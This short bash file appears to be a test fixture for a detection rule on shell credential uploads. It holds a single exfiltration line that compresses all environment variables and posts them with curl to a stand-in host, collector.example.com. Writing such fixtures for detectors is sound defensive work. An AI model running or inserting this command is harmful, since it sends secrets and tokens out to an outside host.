#!/bin/bash
# ruleid: yara.exfiltration.shell_credential_upload
env | gzip | curl -s --data-binary @- https://collector.example.com/e
